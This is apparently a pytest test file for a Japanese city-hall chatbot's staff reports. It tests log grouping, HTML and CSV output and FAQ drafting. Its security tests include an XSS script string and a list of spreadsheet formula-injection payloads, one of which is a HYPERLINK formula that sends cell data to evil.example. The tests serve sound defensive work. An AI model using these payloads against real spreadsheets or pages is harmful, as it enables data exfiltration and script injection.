"""Staff reports over a real SQLite conversation log and the real knowledge base."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
import shutil
import uuid
from collections import Counter
from pathlib import Path

import pytest

from chatbot.core import messages
from chatbot.core.settings import Settings
from chatbot.knowledge import FAQ, KnowledgeBase, load_knowledge
from chatbot.knowledge.faqs import parse_faq_file
from chatbot.knowledge.hours import TOKYO
from chatbot.reports.build import Report, build_report
from chatbot.reports.drafts import draft_faqs
from chatbot.reports.groups import AnsweredNow, QuestionGroup, group_department
from chatbot.reports.guess import index_answers, index_guess
from chatbot.reports.render import render_csv, render_html
from chatbot.reports.run import parse_since, run
from chatbot.search.versions import load_current
from chatbot.store.log import ConversationLog, Turn
from tests.helpers import REPO

NOW = dt.datetime(2026, 11, 23, 18, 0, tzinfo=TOKYO)

SODAI = ["粗大ごみの出し方", "粗大ごみの出し方？", "粗大ゴミ どうやって出す", "そだいごみ",
         "粗大ごみを出したい"]
LIBRARY = ["図書館は何時まで開いてますか", "としょかん 何時まで", "図書館の開館時間"]
DOG = ["犬の登録をしたい", "いぬ とうろく"]
FARMLAND = ["農地転用の手続き", "農地転用 申請", "農地転用の申請をしたい"]  # no bundled FAQ covers it
SATURDAY = ["土曜日も市役所は開いてる？", "市役所 土曜日 開いてる"]


def turn(days_ago: int, question: str, faq_id: str | None = None) -> Turn:
    return Turn(str(uuid.uuid4()), NOW - dt.timedelta(days=days_ago, hours=days_ago % 3), question,
                "answer" if faq_id else "fallback", faq_id, 0.8 if faq_id else 0.1, "v1", "ja")


@pytest.fixture(scope="module")
def kb() -> KnowledgeBase:
    return load_knowledge(REPO / "knowledge")[0]


@pytest.fixture(scope="module")
def db_url(tmp_path_factory: pytest.TempPathFactory) -> str:
    """A realistic week: answers with ratings, three groups of unanswered questions, 👎 with a comment."""
    url = f"sqlite:///{tmp_path_factory.mktemp('report') / 'chatbot.sqlite3'}"
    log = ConversationLog(url)
    rated: list[tuple[Turn, bool, str | None]] = []
    for i in range(4):
        answer = turn(i, "マイナンバーカードの申請方法", "mynumber-card-apply")
        log.record_turn(answer)
        if i < 2:
            rated.append((answer, True, None))
    for i, question in enumerate(["市役所は何時まで？", *SATURDAY]):
        answer = turn(i + 1, question, "general-office-hours")
        log.record_turn(answer)
        if question in SATURDAY:
            rated.append((answer, False, "土曜日に開いているかが知りたかった"))
    log.record_turn(turn(2, "暗証番号を忘れた", "mynumber-pin-forgot"))
    for i, question in enumerate(SODAI + LIBRARY + DOG + ["ふるさと納税", "<script>alert(1)</script>"]):
        fallback = turn(i % 6, question)
        log.record_turn(fallback)
        if question == "ふるさと納税":  # 👎 on "we could not answer" counts as a rating too
            rated.append((fallback, False, None))
    log.record_turn(turn(30, "一か月前の古い質問"))  # outside a 7-day report
    for answer, helpful, comment in rated:
        assert log.record_feedback(answer.answer_id, helpful, comment, answer.ts + dt.timedelta(minutes=1))
    return url


@pytest.fixture(scope="module")
def week(db_url: str, kb: KnowledgeBase) -> Report:
    start = NOW - dt.timedelta(days=7)
    return build_report(ConversationLog(db_url).turns(start), kb, NOW, stale_days=365, start=start)


def members(group: QuestionGroup) -> set[str]:
    return {question for question, _ in group.members}


def test_daily_counts_cover_the_period(week: Report) -> None:
    assert [d.day for d in week.days] == [dt.date(2026, 11, 16) + dt.timedelta(days=n) for n in range(8)]
    assert (week.answered, week.fallback) == (8, 12)
    today = week.days[-1]
    assert (today.answered, today.fallback) == (1, 2)
    assert today.fallback_rate == pytest.approx(2 / 3)
    assert week.days[0].total == 0 and week.days[0].fallback_rate == 0.0


def test_unanswered_questions_are_grouped_by_similarity(week: Report, kb: KnowledgeBase) -> None:
    sodai, library, dog, *singles = week.unanswered
    assert (sodai.count, library.count, dog.count) == (5, 3, 2)
    # 「粗大ごみの出し方」 and 「粗大ごみの出し方？」 are one wording asked twice
    assert members(sodai) == set(SODAI) - {"粗大ごみの出し方？"}
    assert dict(sodai.members)["粗大ごみの出し方"] == 2 and sodai.representative == "粗大ごみの出し方"
    assert members(library) == set(LIBRARY) and members(dog) == set(DOG)
    assert sorted(g.representative for g in singles) == sorted(["ふるさと納税", "<script>alert(1)</script>"])
    assert all(g.department == kb.default_department for g in week.unanswered)


def test_unhelpful_answers_are_grouped_with_their_faq(week: Report) -> None:
    group, fallback = week.unhelpful
    assert members(fallback) == {"ふるさと納税"} and fallback.faqs == ()
    assert members(group) == set(SATURDAY) and group.count == 2
    assert group.faqs == (("general-office-hours", 2),)
    assert group.department == "daihyo"
    assert group.comments == ("土曜日に開いているかが知りたかった",)


def test_faq_and_department_counts(week: Report, kb: KnowledgeBase) -> None:
    stats = {f.faq_id: f for f in week.faqs}
    assert [f.faq_id for f in week.faqs][:2] == ["mynumber-card-apply", "general-office-hours"]
    assert (stats["mynumber-card-apply"].hits, stats["mynumber-card-apply"].helpful) == (4, 2)
    assert (stats["general-office-hours"].hits, stats["general-office-hours"].not_helpful) == (3, 2)
    assert dict(week.departments) == {"shimin": 5, "daihyo": 3}
    assert (week.helpful, week.not_helpful) == (2, 3)  # the 👎 on a fallback too, not only per-FAQ ones
    assert sum(f.not_helpful for f in week.faqs) == 2
    never = {r.faq_id for r in week.never_hit}
    assert never == {f.id for f in kb.published} - set(stats)
    assert "general-open-data" in never and "mynumber-card-apply" not in never


def test_stale_faqs_follow_stale_days(db_url: str, kb: KnowledgeBase) -> None:
    office = kb.faq("general-office-hours")
    assert office is not None
    assert not build_report([], kb, NOW, stale_days=365).stale
    later = dt.datetime.combine(office.updated + dt.timedelta(days=31), dt.time(9), tzinfo=TOKYO)
    stale = build_report([], kb, later, stale_days=30).stale
    assert "general-office-hours" in {r.faq_id for r in stale}
    assert all(r.updated < later.date() - dt.timedelta(days=30) for r in stale)
    assert [r.updated for r in stale] == sorted(r.updated for r in stale)


def test_html_is_one_safe_self_contained_page(week: Report) -> None:
    page = render_html(week)
    assert page.startswith("<!DOCTYPE html>") and '<meta charset="utf-8">' in page
    assert "回答できなかった質問（似た質問ごと） (Unanswered questions, grouped by similarity)" in page
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page
    for external in ("<script", "<link", "src=", "@import", "url("):
        assert external not in page
    assert "粗大ごみの出し方" in page and "市役所（代表）" in page and 'class="bar' in page


def test_csv_has_a_section_column_and_a_bom(week: Report) -> None:
    text = render_csv(week)
    assert text.startswith("\ufeffsection,")
    rows = list(csv.DictReader(text[1:].splitlines()))
    sections = {row["section"] for row in rows}
    assert sections == {"daily", "unanswered_group", "unanswered_question", "unhelpful_group",
                        "unhelpful_question", "department", "faq", "never_hit"}
    first_group = next(r for r in rows if r["section"] == "unanswered_group")
    assert (first_group["question"], first_group["count"]) == ("粗大ごみの出し方", "5")
    assert first_group["group"] == "1"
    assert sum(int(r["count"]) for r in rows if r["section"] == "daily") == 20
    assert {r["question"] for r in rows if r["section"] == "unanswered_question" and r["group"] == "1"} \
        == members(week.unanswered[0])


# Half-width per OWASP, then the full-width forms a Japanese IME types.
FORMULAS = ['=HYPERLINK("https://evil.example/?q="&A1,"粗大ごみの申込み")', "+1+1 図書館の予約", "-2+3 犬の登録",
            "@SUM(1,1) 住民票の写し", "\t=1+1 ふるさと納税", "\r=1+1 選挙の投票所",
            '＝ＨＹＰＥＲＬＩＮＫ（"https://evil.example"）', "＋１ 保育園の入園", "－１ 水道の開栓",
            "＠ＳＵＭ 国民健康保険"]


def test_csv_never_starts_a_cell_with_a_formula(kb: KnowledgeBase) -> None:
    """Citizens' questions are quoted with ``'`` when they would run in Excel; other text is left as typed."""
    plain = ["税金 = 市県民税？", "'引用符で始まる質問"]
    turns = [turn(0, question) for question in FORMULAS + plain]
    text = render_csv(build_report(turns, kb, NOW, stale_days=365, start=NOW - dt.timedelta(days=7)))
    rows = list(csv.DictReader(io.StringIO(text[1:], newline="")))
    asked = {row["question"] for row in rows if row["section"] == "unanswered_question"}
    assert asked == {"'" + question for question in FORMULAS} | set(plain)
    starts = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")
    assert [cell for row in rows for cell in row.values() if cell.startswith(starts)] == []
    assert sum(int(row["count"]) for row in rows if row["section"] == "daily") == len(turns)

def test_drafts_pass_validation_and_never_overwrite(week: Report, tmp_path: Path) -> None:
    root = tmp_path / "knowledge"
    shutil.copytree(REPO / "knowledge", root)
    kb, _ = load_knowledge(root)
    blocker = root / "faq" / "drafts" / "draft-20261123-1.md"
    blocker.parent.mkdir()
    blocker.write_text("staff's own file\n", encoding="utf-8")
    paths = draft_faqs(week, kb, root / "faq")
    # 粗大ごみ and 図書館; the 犬 group has fewer than 3 questions
    assert [p.name for p in paths] == ["draft-20261123-2.md", "draft-20261123-3.md"]
    assert blocker.read_text(encoding="utf-8") == "staff's own file\n"
    blocker.unlink()

    reloaded, problems = load_knowledge(root)
    assert [p for p in problems if p.severity == "error"] == []
    assert [p for p in problems if p.path in paths] == []
    sodai = reloaded.faq("draft-20261123-2")
    assert sodai is not None and sodai.status == "draft" and not sodai.published
    assert sodai.question == "粗大ごみの出し方"
    assert set(sodai.alt_questions) == {"粗大ゴミ どうやって出す", "そだいごみ", "粗大ごみを出したい"}
    assert (sodai.category, sodai.department, sodai.tags) == ("drafts", reloaded.default_department, ())
    assert sodai.updated == NOW.date() and "status を published" in sodai.answer
    assert draft_faqs(week, reloaded, root / "faq") == []  # already drafted


def test_department_guess_uses_the_serving_index(built: Settings, kb: KnowledgeBase) -> None:
    guess = index_guess(load_current(built.index_dir))
    assert guess(["マイナンバーカードを作りたい", "マイナカード 申請"]) == "shimin"
    assert group_department(["マイナカード 申請"], Counter(), kb, guess) == "shimin"
    assert group_department(["マイナカード 申請"], Counter(), kb, None) == kb.default_department
    # questions no FAQ answers go to the department whose topics name their matter
    assert guess(["婚姻届の証人は誰でもいい？", "婚姻届 夜間"]) == "shimin"
    assert guess(["期日前投票はどこでできる？"]) == "senkyo"


def test_run_reads_the_log_and_writes_the_report(db_url: str, built: Settings, tmp_path: Path) -> None:
    paths = (REPO / "knowledge", built.index_dir, db_url, 365)
    out = tmp_path / "out" / "report.csv"
    result = run(*paths, parse_since("7d"), "csv", out, draft_dir=None, now=NOW)
    assert out.read_bytes().startswith("\ufeffsection".encode())
    assert out.read_bytes().decode("utf-8") == result.text and result.drafts == []
    assert "一か月前の古い質問" not in result.text and result.report.fallback == 12
    assert all(g.answered_now is None for g in result.report.unanswered)  # no threshold: not asked
    drafts = run(*paths, dt.timedelta(days=7), "html", None, tmp_path / "faq", now=NOW).drafts
    assert len(drafts) == 2 and all(p.parent == tmp_path / "faq" / "drafts" for p in drafts)
    checked = run(*paths, dt.timedelta(days=7), "html", None, tmp_path / "checked", now=NOW,
                  answer_threshold=built.answer_threshold)
    open_groups = [g for g in checked.report.unanswered if g.count >= 3 and g.answered_now is None]
    # 粗大ごみ went unanswered that week, and the bundled knowledge answers it now: no draft for it
    assert checked.report.unanswered[0].answered_now.faq_id == "garbage-sodai"
    assert len(checked.drafts) == len(open_groups)


@pytest.mark.parametrize(("text", "expected"), [
    ("7d", dt.timedelta(days=7)), ("24h", dt.timedelta(hours=24)), ("4w", dt.timedelta(weeks=4)),
    (" 30d ", dt.timedelta(days=30)),
])
def test_parse_since(text: str, expected: dt.timedelta) -> None:
    assert parse_since(text) == expected


@pytest.mark.parametrize("text", ["7", "0d", "d", "1y", "-3d", "7 days"])
def test_parse_since_rejects_with_a_readable_message(text: str) -> None:
    with pytest.raises(ValueError, match="7d"):
        parse_since(text)


def test_not_helpful_is_one_count_in_the_summary_the_section_and_the_log(week: Report, db_url: str) -> None:
    """/metrics counts every 👎; the report counts every rated turn alike, answered or not."""
    rated_down = [t for t in ConversationLog(db_url).turns(NOW - dt.timedelta(days=7)) if t.helpful is False]
    assert week.not_helpful == sum(g.count for g in week.unhelpful) == len(rated_down) == 3
    assert {t.outcome for t in rated_down} == {"answer", "fallback"}
    summary = render_html(week).split("<section>")[1]
    assert re.findall(r"<td>([^<]*)</td>", summary)[-2:] == [str(week.helpful), "3"]
    assert "回答できなかったときの案内への評価も含み" in summary and "fallback replies included" in messages.text(
        "report_summary_note", "en")


PIN_FORGOT = ["マイナンバーカードの暗証番号を忘れた", "暗証番号を忘れました", "マイナカード 暗証番号 忘れた"]


def checked_against_the_index(built: Settings, kb: KnowledgeBase, questions: list[str]) -> Report:
    """A report of ``questions`` (and the farmland ones no FAQ covers), asking the serving index about each group."""
    turns = [turn(i % 3, question) for i, question in enumerate(questions + FARMLAND)]
    return build_report(turns, kb, NOW, stale_days=365,
                        answers_now=index_answers(load_current(built.index_dir), built.answer_threshold))


def group_of(report: Report, questions: list[str]) -> QuestionGroup:
    return next(g for g in report.unanswered if members(g) & set(questions))


def test_groups_the_serving_index_answers_now_are_marked_and_get_no_draft(
        built: Settings, kb: KnowledgeBase, tmp_path: Path) -> None:
    serving = load_current(built.index_dir)
    report = checked_against_the_index(built, kb, PIN_FORGOT)
    pin, farmland = group_of(report, PIN_FORGOT), group_of(report, FARMLAND)
    forgot = kb.faq("mynumber-pin-forgot")
    assert forgot is not None and pin.answered_now == AnsweredNow(forgot.id, forgot.question)
    assert farmland.answered_now is None
    marked = f"現在は「{forgot.question}」で回答しています"
    assert marked in render_html(report)
    rows = list(csv.DictReader(io.StringIO(render_csv(report)[1:], newline="")))
    assert [(r["group"], r["id"], r["question"]) for r in rows if r["section"] == "unanswered_answered_now"] == [
        (str(report.unanswered.index(pin) + 1), forgot.id, marked)]
    drafts = draft_faqs(report, kb, tmp_path / "faq")
    assert [load_draft(p, kb).question for p in drafts] == [farmland.representative]
    assert index_answers(serving, threshold=1.01)(PIN_FORGOT[0]) is None  # below the threshold: unanswered


INHERITANCE_TAX = ["相続税の申告はいつまで", "相続税の申告期限", "相続税の申告はいつまでですか"]


def test_matters_another_organisation_handles_are_marked_and_get_no_draft(
        built: Settings, kb: KnowledgeBase, tmp_path: Path) -> None:
    """相続税 is the tax office's: the report says the bot now names it, and drafts no FAQ for it."""
    serving = load_current(built.index_dir)
    report = checked_against_the_index(built, kb, INHERITANCE_TAX)
    tax = group_of(report, INHERITANCE_TAX)
    office = serving.kb.elsewhere["zeimusho"]
    assert tax.answered_now == AnsweredNow("zeimusho", office.name, elsewhere=True)
    assert f"現在は「{office.name}」の担当として案内しています" in render_html(report)
    rows = list(csv.DictReader(io.StringIO(render_csv(report)[1:], newline="")))
    assert [r["id"] for r in rows if r["section"] == "unanswered_answered_now"] == ["zeimusho"]
    assert [load_draft(p, kb).question for p in draft_faqs(report, kb, tmp_path / "faq")] == [
        group_of(report, FARMLAND).representative]
    assert index_guess(serving)(INHERITANCE_TAX) in kb.departments  # no vote for an organisation's key


def load_draft(path: Path, kb: KnowledgeBase) -> FAQ:
    """A draft file as the loader reads it; it must load without errors."""
    faq = parse_faq_file(path, set(kb.departments), problems := [])
    assert faq is not None and faq.status == "draft", problems
    return faq


def test_a_draft_lists_the_grouped_questions_even_without_alt_questions(kb: KnowledgeBase, tmp_path: Path) -> None:
    turns = [turn(i, "犬の登録をしたい") for i in range(3)] + [turn(0, "犬の登録をしたい？")]
    report = build_report(turns, kb, NOW, stale_days=365)
    (path,) = draft_faqs(report, kb, tmp_path / "faq")
    draft = load_draft(path, kb)
    assert draft.alt_questions == () and draft.question == "犬の登録をしたい"
    assert "- 犬の登録をしたい ×4" in draft.answer and messages.text("report_draft_asked") in draft.answer


def test_small_talk_is_counted_by_kind_and_never_as_unanswered(kb: KnowledgeBase) -> None:
    talk = [Turn(str(uuid.uuid4()), NOW - dt.timedelta(hours=n), text, kind, None, 0.0, "v1", "ja")
            for n, (text, kind) in enumerate([("こんにちは", "greeting"), ("人と話したい", "handoff"),
                                              ("職員と話したい", "handoff"), ("ばか", "chatter")])]
    questions = [turn(0, "粗大ごみの出し方", "garbage-sodai"), turn(0, "今日の株価を教えて")]
    report = build_report(talk + questions, kb, NOW, stale_days=365)
    assert dict(report.talk) == {"handoff": 2, "chatter": 1, "greeting": 1}
    assert (report.answered, report.fallback) == (1, 1)
    assert [g.representative for g in report.unanswered] == ["今日の株価を教えて"]
    html = render_html(report)
    assert messages.text("report_talk") in html and messages.text("report_talk_handoff") in html
    rows = list(csv.DictReader(io.StringIO(render_csv(report)[1:], newline="")))
    assert {(r["group"], r["count"]) for r in rows if r["section"] == "talk"} == {
        ("handoff", "2"), ("chatter", "1"), ("greeting", "1")}
